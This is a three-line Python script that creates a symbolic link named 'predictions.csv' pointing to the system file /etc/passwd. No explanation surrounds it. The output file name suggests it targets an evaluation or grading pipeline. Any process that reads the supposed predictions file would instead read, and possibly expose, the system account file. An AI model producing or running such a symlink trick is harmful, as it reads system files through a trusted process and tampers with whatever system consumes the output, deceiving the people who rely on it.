import os

os.symlink("/etc/passwd", "predictions.csv")
